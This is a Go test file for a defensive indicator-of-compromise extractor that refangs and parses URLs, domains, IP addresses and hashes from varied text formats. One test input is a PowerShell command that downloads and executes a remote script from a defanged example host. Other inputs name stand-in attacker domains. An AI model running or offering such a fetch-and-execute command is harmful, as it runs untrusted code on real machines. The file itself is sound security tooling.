package ioc

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// found renders matches as "type value" or "invalid input: reason".
func found(ms []Match) []string {
	var out []string
	for _, m := range ms {
		if m.Invalid != nil {
			out = append(out, "invalid "+m.Invalid.Input+": "+m.Invalid.Reason)
			continue
		}
		out = append(out, string(m.IOC.Type)+" "+m.IOC.Value)
	}
	return out
}

func TestExtract(t *testing.T) {
	tests := []struct {
		name string
		in   string
		opt  ExtractOptions
		want []string
	}{
		{"defanged url", "see hxxps://example[.]com/path[.]php now", ExtractOptions{},
			[]string{"url https://example.com/path.php"}},
		{"two defanged urls", "http[:]//example.com/a ; hxxps[://]example[.]net", ExtractOptions{},
			[]string{"url http://example.com/a", "url https://example.net"}},
		{"dot forms", "example(dot)com, example[dot]com, example{.}com and state[at]rest", ExtractOptions{},
			[]string{"domain example.com"}},
		{"defanged ipv4 only", "C2 at 198.51[.]100[.]7.", ExtractOptions{},
			[]string{"ipv4 198.51.100.7"}},
		{"sha1 not md5", "hash a94a8fe5ccb19ba61c4c0873d391e987982fbbd3 seen", ExtractOptions{},
			[]string{"sha1 a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"}},
		{"65 hex invalid", "x a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a94a8fe5ccb19ba61c4c0873d y", ExtractOptions{Invalid: true},
			[]string{"invalid a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a94a8fe5ccb19ba61c4c0873d: 65 hex characters: not a known hash length"}},
		{"65 hex hidden without invalid", "x a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a94a8fe5ccb19ba61c4c0873d y", ExtractOptions{},
			nil},
		{"file names", "open invoice.pdf, virus.exe and payload.dll; fetch files.zip trailer.mov my.app", ExtractOptions{},
			[]string{"domain files.zip", "domain trailer.mov", "domain my.app"}},
		{"times and fingerprints", "at 12:30:45 and 1:6:0 key d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7e mac 00:1a:2b:3c:4d:5e", ExtractOptions{},
			nil},
		{"ipv6 forms", "2001:db8::1 ::ffff:198.51.100.7 2001:db8:0:0:1::7 ::1 fe80::1%eth0 2606:4700:0:0:0:0:1.2.3.4", ExtractOptions{},
			[]string{"ipv6 2001:db8::1", "ipv4 198.51.100.7", "ipv6 2001:db8::1:0:0:7", "ipv6 ::1", "ipv6 fe80::1", "ipv6 2606:4700::102:304"}},
		{"idn forms share key", "xn--80aaaaimf2bemuibxoc5d.xn--p1ai test.公司.cn test.xn--55qx5d.cn", ExtractOptions{},
			[]string{"domain xn--80aaaaimf2bemuibxoc5d.xn--p1ai", "domain test.xn--55qx5d.cn"}},
		{"upper sha256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", ExtractOptions{},
			[]string{"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}},
		{"powershell quotes", "IEX (New-Object Net.WebClient).DownloadString('https://example[.]com/rdp.ps1');g", ExtractOptions{},
			[]string{"url https://example.com/rdp.ps1"}},
		{"trailing punctuation", `Visit (https://example.com/a), "evil.com". Then [evil.org]! <http://x.example.net/>`, ExtractOptions{},
			[]string{"url https://example.com/a", "domain evil.com", "domain evil.org", "url http://x.example.net/"}},
		{"balanced parens kept", "https://en.wikipedia.org/wiki/Foo_(bar) end", ExtractOptions{},
			[]string{"url https://en.wikipedia.org/wiki/Foo_(bar)"}},
		{"url host not a domain", "https://evil.com/x and evil.com", ExtractOptions{},
			[]string{"url https://evil.com/x", "domain evil.com"}},
		{"url host with all", "https://evil.com/x http://192.0.2.1/y", ExtractOptions{All: true},
			[]string{"url https://evil.com/x", "domain evil.com", "url http://192.0.2.1/y", "ipv4 192.0.2.1"}},
		{"dedup first seen", "b.com a.com B.COM b[.]com", ExtractOptions{},
			[]string{"domain b.com", "domain a.com"}},
		{"email domain only", "From: John Smith <info.support@mail.example.com>", ExtractOptions{},
			[]string{"domain mail.example.com"}},
		{"log line", `2024-01-02T03:04:05Z src=10.0.0.5:51234 dst=203.0.113.9:443 host="c2.example.org" msg="ok"`, ExtractOptions{},
			[]string{"ipv4 10.0.0.5", "ipv4 203.0.113.9", "domain c2.example.org"}},
		{"markdown table", "| type | value |\n|---|---|\n| domain | `evil[.]com` |\n| ip | 8.8.8[.]8 |", ExtractOptions{},
			[]string{"domain evil.com", "ipv4 8.8.8.8"}},
		{"asciidoc passthrough", "|`+DF1C0A70E7A02B839AB3AAC3FC410E61EEFB58EB+` |VBS/Pterodo.AEV |x", ExtractOptions{},
			[]string{"sha1 df1c0a70e7a02b839ab3aac3fc410e61eefb58eb"}},
		{"detection names after slash", "PowerShell/Pterodo.FR MSIL/Pterodo.CD", ExtractOptions{},
			nil},
		{"csv quoting", "sha256,\"0af013ad0548b992d50287e3b11963cad9aa0af1f1e47e254637d28ee05208d8\",\"a, b.com\"\r\n", ExtractOptions{},
			[]string{"sha256 0af013ad0548b992d50287e3b11963cad9aa0af1f1e47e254637d28ee05208d8", "domain b.com"}},
		{"bom and crlf", "\ufeffevil.com\r\n1.2.3.4\r\n", ExtractOptions{},
			[]string{"domain evil.com", "ipv4 1.2.3.4"}},
		{"windows path", `C:\Users\bob\AppData\evil.com and \\server\share\x.net`, ExtractOptions{},
			nil},
		{"unix path", "GET /hboneb/sol95.php?l=puom1.cab HTTP/1.1", ExtractOptions{},
			nil},
		{"schemeless url", "download from evil.com/payload.bin today", ExtractOptions{},
			[]string{"url http://evil.com/payload.bin"}},
		{"schemeless host with trailing slash", "see evil.com/ now", ExtractOptions{},
			[]string{"domain evil.com"}},
		{"cidr invalid", "block 198.51.100.0/24 now", ExtractOptions{Invalid: true},
			[]string{"invalid 198.51.100.0/24: a network range (CIDR) is not a single address"}},
		{"bad octets", "10.0.0.256 and 010.1.1.1", ExtractOptions{Invalid: true},
			[]string{"invalid 10.0.0.256: octet 256 out of range 0-255", "invalid 010.1.1.1: leading zeros are ambiguous"}},
		{"version numbers ignored", "version 1.2.3 and 2.0", ExtractOptions{Invalid: true},
			nil},
		{"plain words not invalid", "The quick brown fox: jumps. Over (the) lazy dog!", ExtractOptions{Invalid: true},
			nil},
		{"type filter", "evil.com 1.2.3.4 d41d8cd98f00b204e9800998ecf8427e", ExtractOptions{Types: []Type{IPv4, MD5}},
			[]string{"ipv4 1.2.3.4", "md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"invalid follows filter", "1.2.3.999 a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a", ExtractOptions{Invalid: true, Types: []Type{Domain}},
			nil},
		{"hash as file name", "dropped d41d8cd98f00b204e9800998ecf8427e.exe", ExtractOptions{},
			[]string{"md5 d41d8cd98f00b204e9800998ecf8427e"}},
		{"hash label prefix", "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ExtractOptions{},
			[]string{"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}},
		{"host and port", "connect evil.com:8080 and 1.2.3.4:443", ExtractOptions{},
			[]string{"domain evil.com", "ipv4 1.2.3.4"}},
		{"bracketed ipv6 with port", "[2606:4700::1111]:443", ExtractOptions{},
			[]string{"ipv6 2606:4700::1111"}},
		{"spaced defanging", "evil [.] com and me (at) example [dot] org", ExtractOptions{},
			[]string{"domain evil.com", "domain example.org"}},
		{"smart quotes", "“evil.com” and ‘http://example.com/a’", ExtractOptions{},
			[]string{"domain evil.com", "url http://example.com/a"}},
		{"glued scheme", "--~Chttp://uniddloos.zddfdd.org/CBA0019_file_00002_pdf.zip", ExtractOptions{},
			[]string{"url http://uniddloos.zddfdd.org/CBA0019_file_00002_pdf.zip"}},
		{"unsupported scheme invalid", "ldap://example.com/a", ExtractOptions{Invalid: true},
			[]string{`invalid ldap://example.com/a: scheme "ldap" not supported: use http, https or ftp`}},
		{"sentence end ipv4", "The server was 8.8.8.8.", ExtractOptions{},
			[]string{"ipv4 8.8.8.8"}},
		{"wildcard domain", "block *.duckdns.org", ExtractOptions{},
			[]string{"domain duckdns.org"}},
		{"angle bracket dots", "visit hxxps://google<.>com now, also evil<.>com and 1<.>2<.>3<.>4", ExtractOptions{Invalid: true},
			[]string{"url https://google.com", "domain evil.com", "ipv4 1.2.3.4"}},
		{"angle dot words any case", "x<dot>org Y<DOT>NET hxxps:[//]google<.>com HXXPS://www.nist<DOT>gov/news", ExtractOptions{},
			[]string{"domain x.org", "domain y.net", "url https://google.com", "url https://www.nist.gov/news"}},
		{"spaced angle dot", "evil <.> com", ExtractOptions{},
			[]string{"domain evil.com"}},
		{"html tags stay delimiters", "<b>evil.com</b> <a>x.org<p>", ExtractOptions{},
			[]string{"domain evil.com", "domain x.org"}},
		{"ansi colour codes", "see \x1b[31mevil.com\x1b[0m and \x1b[1;32m1.2.3.4\x1b[m", ExtractOptions{},
			[]string{"domain evil.com", "ipv4 1.2.3.4"}},
		{"ansi inside a name", "evil\x1b[0m.com", ExtractOptions{},
			[]string{"domain evil.com"}},
		{"osc title", "\x1b]0;title.com\x07other.org \x1b]8;;http://link.example.net/\x1b\\text\x1b]8;;\x1b\\", ExtractOptions{},
			[]string{"domain other.org"}},
		{"srv label kept", "_jabber._tcp.gmail.com and _dmarc.example.org", ExtractOptions{},
			[]string{"domain _jabber._tcp.gmail.com", "domain _dmarc.example.org"}},
		{"emphasis underscores trimmed", "_evil.com_ and __x.org__", ExtractOptions{},
			[]string{"domain evil.com", "domain x.org"}},
		{"double underscore scheme", "http__example.com/test and hxxps__evil[.]org/a", ExtractOptions{},
			[]string{"url http://example.com/test", "url https://evil.org/a"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms, err := ExtractString(tt.in, tt.opt)
			if err != nil {
				t.Fatal(err)
			}
			if got := found(ms); !slices.Equal(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestExtractLinesAndInput(t *testing.T) {
	in := "first line\r\nsee nododru[.]ru\nand hxxps://example[.]com/a[.]php.\n\nagain nododru.ru\n"
	ms, err := ExtractString(in, ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		input, value string
		line         int
	}{
		{"nododru[.]ru", "nododru.ru", 2},
		{"hxxps://example[.]com/a[.]php", "https://example.com/a.php", 3},
	}
	if len(ms) != len(want) {
		t.Fatalf("got %d matches %v, want %d", len(ms), found(ms), len(want))
	}
	for i, w := range want {
		if ms[i].IOC.Input != w.input || ms[i].IOC.Value != w.value || ms[i].Line != w.line {
			t.Errorf("match %d = %q %q line %d, want %q %q line %d", i, ms[i].IOC.Input, ms[i].IOC.Value, ms[i].Line, w.input, w.value, w.line)
		}
	}
}

func TestExtractLineTooLong(t *testing.T) {
	in := "evil.com\n" + strings.Repeat("a", 100) + "\n"
	_, err := ExtractString(in, ExtractOptions{MaxLineBytes: 50})
	var tooLong *LineTooLongError
	if !errors.As(err, &tooLong) {
		t.Fatalf("err = %v, want *LineTooLongError", err)
	}
	if tooLong.Line != 2 {
		t.Errorf("line = %d, want 2", tooLong.Line)
	}
	if !strings.Contains(err.Error(), "line 2") {
		t.Errorf("error %q does not name the line", err)
	}
}

func TestExtractSkipLongLines(t *testing.T) {
	// The long line is longer than the read buffer too, so skipping must
	// drop every chunk of it and resume at the next line.
	in := "evil.com\n" + strings.Repeat("a.com ", 20<<10) + "\nb.org\n"
	ms, err := ExtractString(in, ExtractOptions{MaxLineBytes: 64 << 10, SkipLongLines: true})
	if err != nil {
		t.Fatal(err)
	}
	// The skipped line is shown by its first 32 bytes.
	want := []string{"domain evil.com", "invalid a.com a.com a.com a.com a.com a....: line 2 longer than 65536 bytes: skipped", "domain b.org"}
	if got := found(ms); !slices.Equal(got, want) {
		t.Fatalf("got  %q\nwant %q", found(ms), want)
	}
	if ms[1].Line != 2 || ms[2].Line != 3 {
		t.Errorf("lines = %d, %d; want 2, 3", ms[1].Line, ms[2].Line)
	}
}

func TestExtractSkipLongLastLine(t *testing.T) {
	in := "evil.com\n" + strings.Repeat("x", 100)
	ms, err := ExtractString(in, ExtractOptions{MaxLineBytes: 50, SkipLongLines: true})
	if err != nil {
		t.Fatal(err)
	}
	got := found(ms)
	if len(got) != 2 || !strings.HasSuffix(got[1], ": line 2 longer than 50 bytes: skipped") {
		t.Errorf("got %q, want evil.com and the skipped line 2", got)
	}
}

func TestExtractQuotedPrintable(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"soft break in url",
			"Click hxxps://phish-login[.]com/account/verify?id=3D12345&token=3Dabcdef=\r\n789&x=3D1 now\r\n",
			[]string{"url https://phish-login.com/account/verify?id=12345&token=abcdef789&x=1"}},
		{"header switches decoding on",
			"Content-Transfer-Encoding: quoted-printable\n\n<a href=3D\"http://evil.com/a?b=3Dc\">x</a>\n",
			[]string{"url http://evil.com/a?b=c"}},
		{"soft break inside host",
			"a=3Db see http://ev=\nil.example.com/x=20y and more=\n text\n",
			[]string{"url http://evil.example.com/x"}},
		{"plain url with escapes kept",
			"https://example.com/?id=3D4&q=20\n",
			[]string{"url https://example.com/?id=3D4&q=20"}},
		{"base64 padding not joined",
			"aGVsbG8gd29ybGQ=\nevil.com\n",
			[]string{"domain evil.com"}},
		{"line numbers of joined lines",
			"x\nhttp://a.example.com/p?x=3D1=\n2\nb.org\n",
			[]string{"url http://a.example.com/p?x=12", "domain b.org"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms, err := ExtractString(tt.in, ExtractOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if got := found(ms); !slices.Equal(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestExtractQuotedPrintableLines(t *testing.T) {
	ms, err := ExtractString("x\nhttp://a.example.com/p?x=3D1=\n2\nb.org\n", ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(ms) != 2 || ms[0].Line != 2 || ms[1].Line != 4 {
		t.Fatalf("matches %+v, want the url on line 2 and b.org on line 4", ms)
	}
}

func TestExtractLongLineWithinLimit(t *testing.T) {
	// Longer than the read buffer, so the line is assembled from chunks.
	in := strings.Repeat("x ", 80<<10) + "evil.com\n"
	ms, err := ExtractString(in, ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if got := found(ms); !slices.Equal(got, []string{"domain evil.com"}) {
		t.Errorf("got %q", got)
	}
}

func TestExtractStopsOnCallbackError(t *testing.T) {
	stop := errors.New("stop")
	calls := 0
	err := Extract(strings.NewReader("a.com b.com c.com"), ExtractOptions{}, func(Match) error {
		calls++
		return stop
	})
	if !errors.Is(err, stop) {
		t.Errorf("err = %v, want the callback's error", err)
	}
	if calls != 1 {
		t.Errorf("callback ran %d times, want 1", calls)
	}
}

type failingReader struct{}

func (failingReader) Read([]byte) (int, error) { return 0, errors.New("disk on fire") }

func TestExtractStopsInBatch(t *testing.T) {
	// Matches are compared with the values already reported in batches.
	// An error from fn must still stop the reports at once, in the middle
	// of a batch too, and on a line longer than one batch.
	stop := errors.New("stop")
	var text strings.Builder
	for i := range 3 * maxPending {
		fmt.Fprintf(&text, "host%d.example.com ", i)
		if i%7 == 0 {
			text.WriteString("\n")
		}
	}
	text.WriteString("\n" + strings.Repeat("x.example.com y.example.com ", maxPending) + "\n")
	for _, after := range []int{1, maxPending - 1, maxPending + 3, 3*maxPending + 1} {
		calls := 0
		err := Extract(strings.NewReader(text.String()), ExtractOptions{}, func(Match) error {
			calls++
			if calls == after {
				return stop
			}
			return nil
		})
		if !errors.Is(err, stop) {
			t.Errorf("stop after %d: err = %v, want the callback's error", after, err)
		}
		if calls != after {
			t.Errorf("stop after %d: callback ran %d times", after, calls)
		}
	}
}

func TestExtractReadError(t *testing.T) {
	err := Extract(failingReader{}, ExtractOptions{}, func(Match) error { return nil })
	if err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Errorf("err = %v, want the read error", err)
	}
}

func TestValueSetCollisions(t *testing.T) {
	// Every string hashes alike, so all values share one fingerprint and
	// probe past each other. None may be lost or reported twice.
	set := &valueSet{hash: func(string) uint64 { return 42 }}
	values := []string{"a.com", "b.com", "c.com"}
	for i := range 1000 {
		values = append(values, fmt.Sprintf("host%d.example", i))
	}
	for _, s := range values {
		if got, isNew := set.add(s); !isNew || got != s {
			t.Fatalf("add(%q) = %q, %v on first insert", s, got, isNew)
		}
	}
	for _, s := range values {
		if got, isNew := set.add(s); isNew || got != s {
			t.Fatalf("add(%q) = %q, %v on second insert", s, got, isNew)
		}
	}
}

func TestValueSetMatchesMap(t *testing.T) {
	// The set must return what a map of strings returns, through many
	// growths and with strings that repeat, including the empty string and
	// values too long for an arena block.
	r := rand.New(rand.NewPCG(3, 4))
	set := newValueSet()
	want := map[string]bool{}
	for i := range 200_000 {
		var s string
		switch k := r.IntN(100); {
		case k == 0:
			s = ""
		case k == 1:
			s = strings.Repeat("x", arenaMaxBytes+r.IntN(3))
		default:
			s = fmt.Sprintf("v%d.example", r.IntN(60_000))
		}
		got, isNew := set.add(s)
		if isNew == want[s] || got != s {
			t.Fatalf("insert %d: add(%.20q) = %.20q, %v; already present: %v", i, s, got, isNew, want[s])
		}
		want[s] = true
	}
	if set.n != len(want) {
		t.Errorf("set holds %d values, want %d", set.n, len(want))
	}
}

func TestStringBlocksCopy(t *testing.T) {
	// Each string must keep its bytes while the source slice is reused
	// and later strings fill the block and start new ones.
	var blocks stringBlocks
	var got, want []string
	src := make([]byte, 0, 2*arenaMaxBytes)
	for i := range 5000 {
		n := i % 97
		if i%1000 == 0 {
			n = arenaMaxBytes + 1
		}
		src = src[:0]
		for k := range n {
			src = append(src, byte('a'+(i+k)%26))
		}
		want = append(want, string(src))
		got = append(got, blocks.string(src))
		clear(src)
	}
	for i := range got {
		if got[i] != want[i] {
			t.Fatalf("string %d = %.20q, want %.20q", i, got[i], want[i])
		}
	}
}

func TestByteClassMarksRefangStarts(t *testing.T) {
	// scanLine skips Refang for a token without clsRefang bytes, which is
	// right only while every byte that mayBeDefanged looks for has it.
	for c := range 256 {
		if refangStart[c] != 0 && byteClass[c]&clsRefang == 0 {
			t.Errorf("byte %#x starts a refang rule but lacks clsRefang", c)
		}
	}
}
